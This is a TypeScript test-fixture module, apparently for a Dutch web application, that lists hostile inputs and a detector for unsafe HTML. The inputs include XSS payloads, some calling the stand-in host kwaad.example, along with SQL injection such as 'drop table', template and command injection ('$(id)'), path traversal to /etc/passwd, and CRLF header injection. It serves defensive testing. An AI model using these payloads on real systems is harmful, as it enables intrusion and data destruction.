/** What runs when a page lets it out of the text that it is. */
const RUNS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//kwaad.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<form action="https://kwaad.example"><button>x</button></form>',
  '<base href="https://kwaad.example/">',
  '<meta http-equiv="refresh" content="0;url=https://kwaad.example">',
  '<link rel=stylesheet href=//kwaad.example/x.css>',
  '<style>*{display:none}</style>',
  '<object data="data:text/html,x"></object>',
  '<details open ontoggle=alert(1)>',
] as const;
/** What ends the place that a text stands in. */
const OUT = ['', '">', "'>", '</textarea>', '</title>', '-->', '</option></select>', '\\">'] as const;

const ATTRIBUTES = [
  '" onfocus="alert(1)" autofocus="',
  "' onmouseover='alert(1)",
  '" style="position:fixed;inset:0',
  '" hx-get="https://kwaad.example',
  '` onclick=`alert(1)',
  '&quot; onclick=&quot;alert(1)',
  '&#34;&#62;&#60;script&#62;alert(1)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  'javascript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD4=',
];
const MARKS = [
  '\u202Egevaar',
  'a\u202Db\u202Cc',
  '\u2066x\u2069',
  '\u2067x',
  '\u200Fx',
  'x\u200Bx',
  '\uFEFFx',
  '\u00ADx',
  '\u0000',
  'a\u0000b',
  '\u0000<script>alert(1)</script>',
  '\u0001\u0008\u000B\u001F',
  '\u007F',
  '\u0085\u2028\u2029',
  'e\u0301'.repeat(50),
  '\u0336'.repeat(60),
  '\uFFFE\uFFFF',
  '\u{1F469}\u200D\u{1F4BB}',
];
const LONG = ['x'.repeat(201), 'x'.repeat(5_000), 'x'.repeat(100_000), '<'.repeat(3_000), '\u{1D306}'.repeat(300)];
const SQL = [
  "'; drop table cases; --",
  "' or '1'='1",
  "1' union select null, text from texts --",
  '"; truncate actors; --',
  String.raw`\'; select pg_sleep(5); --`,
  '$$; select 1; $$',
  '%',
  '_%_',
  'a%\'"_',
];
const TEMPLATES = [
  '${7*7}',
  '{{7*7}}',
  '{{constructor.constructor("alert(1)")()}}',
  '<%= 7*7 %>',
  '#{7*7}',
  '`${process.env.PATH}`',
  '$(id)',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
];
const PATHS = [
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd',
  '%2e%2e%2f%2e%2e%2f',
  '....//....//',
  'file:///etc/passwd',
  '//kwaad.example',
  '/\\kwaad.example',
  'https://kwaad.example/mijn-werk',
  '%00',
  '%zz',
];
const HEADERS = [
  'x\r\nSet-Cookie: a=b',
  'x\nLocation: https://kwaad.example',
  '\r\n\r\n<html>',
  'x%0d%0aSet-Cookie:%20a=b',
  '=HYPERLINK("https://kwaad.example")',
];
const ODD = [
  '-1',
  '1e308',
  'NaN',
  'null',
  'undefined',
  'true',
  '[]',
  '{}',
  '2018-02-30',
  '9999-12-31',
  '0000-00-00',
  '2018-05-31 25:61',
];

/** Two hundred texts that somebody may fill in who means harm, or who does not know what she does. */
export const ATTACKS: readonly string[] = [
  ...OUT.flatMap((out) => RUNS.map((text) => `${out}${text}`)),
  ...ATTRIBUTES,
  ...MARKS,
  ...LONG,
  ...SQL,
  ...TEMPLATES,
  ...PATHS,
  ...HEADERS,
  ...ODD,
];

/** All of them in fewer texts: what is escaped sign by sign is escaped beside others too. */
export const TOGETHER: readonly string[] = Array.from({ length: Math.ceil(ATTACKS.length / 10) }, (_none, at) =>
  ATTACKS.slice(at * 10, at * 10 + 10).join(' '),
);

/** PostgreSQL keeps no null byte and no half of a sign. */
export const KEPT: readonly string[] = TOGETHER.map((text) => text.replaceAll('\u0000', ''));

/** The one place elsewhere that a page leads to: where the statutes stand. */
const LAWS = '<a href="https://wetten.overheid.nl/">';

/** The form of an act, which looks at what follows while it is filled in: it asks its own address and nothing else. */
const ACT_FORM =
  /^<form method="post" action="(\/procedures\/[^"]+)" id="handeling" hx-post="\1" hx-trigger="change delay:300ms" hx-select="#vooruitblik" hx-target="#vooruitblik" hx-swap="outerMorph" hx-sync="this:replace"( hx-status:\w+="swap:none")+>$/;

/** What a page lets run, or load from elsewhere; nothing on a page that is as it should be. */
export function holesIn(html: string): readonly string[] {
  const tags = [...html.matchAll(/<([a-z][a-z0-9-]*)((?:[^>"']|"[^"]*"|'[^']*')*)>/gi)];
  return tags.flatMap(([whole, tag = '', attributes = '']) => {
    const named = [...attributes.matchAll(/([^\s=/"']+)(?:\s*=\s*("[^"]*"|'[^']*'|[^\s"'>]+))?/g)];
    const wrong = named.filter(([, name = '', value = '']) => {
      const text = value.replaceAll(/^["']|["']$/g, '');
      if (/^(on|style$|srcdoc$|hx-|http-equiv$)/i.test(name)) return true;
      return /^(href|src|action|data|formaction)$/i.test(name) && !/^([#?]|\/(?!\/))/.test(text);
    });
    const isStrange = /^(iframe|object|embed|base|style|math|img|details)$/i.test(tag);
    const isScript = /^script$/i.test(tag) && !attributes.startsWith(' src="/bestanden/');
    const isHole = wrong.length > 0 || isStrange || isScript;
    return isHole && whole !== LAWS && !ACT_FORM.test(whole) ? [whole.slice(0, 200)] : [];
  });
}
